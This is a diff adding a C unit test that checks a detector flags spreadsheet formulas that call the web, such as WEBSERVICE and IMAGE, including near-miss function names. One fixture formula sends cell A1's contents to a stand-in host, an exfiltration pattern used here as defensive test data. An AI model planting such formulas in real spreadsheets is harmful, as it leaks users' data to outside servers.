@@ -67,11 +67,34 @@ static void formulas_that_ask_programs_are_told_from_text(void **state)
 		assert_false(fieldcode_is_dde_formula(no[i]));
 }
 
+static void functions_that_ask_the_web_are_known(void **state)
+{
+	static const struct {
+		str formula, want;
+	} rows[] = {
+		{ STR("_xlfn.WEBSERVICE(\"http://e.example/\"&A1)"), STR("WEBSERVICE") },
+		{ STR("IF(A1,webservice(B1),0)"), STR("WEBSERVICE") },
+		{ STR("of:=COM.MICROSOFT.WEBSERVICE([.A1])"), STR("WEBSERVICE") },
+		{ STR("_xlfn.WEBSERVICE"), STR("WEBSERVICE") },
+		{ STR("_xlfn.IMAGE(A1)"), STR("IMAGE") },
+		{ STR("MYWEBSERVICE(1)+WEBSERVICE_OLD(2)+WEBSERVICE(3)"), STR("WEBSERVICE") },
+		{ STR("MYWEBSERVICE(1)"), STR("") },
+		{ STR("IMAGE(1)"), STR("") },
+		{ STR("SUM(A1:A9)"), STR("") },
+		{ STR(""), STR("") },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < ARRAY_LEN(rows); i++)
+		assert_true(str_eq(fieldcode_web_function(rows[i].formula), rows[i].want));
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(codes_are_known_by_their_first_word),
 		cmocka_unit_test(fields_within_fields_are_all_seen),
+		cmocka_unit_test(functions_that_ask_the_web_are_known),
 		cmocka_unit_test(formulas_that_ask_programs_are_told_from_text),
 	};
 
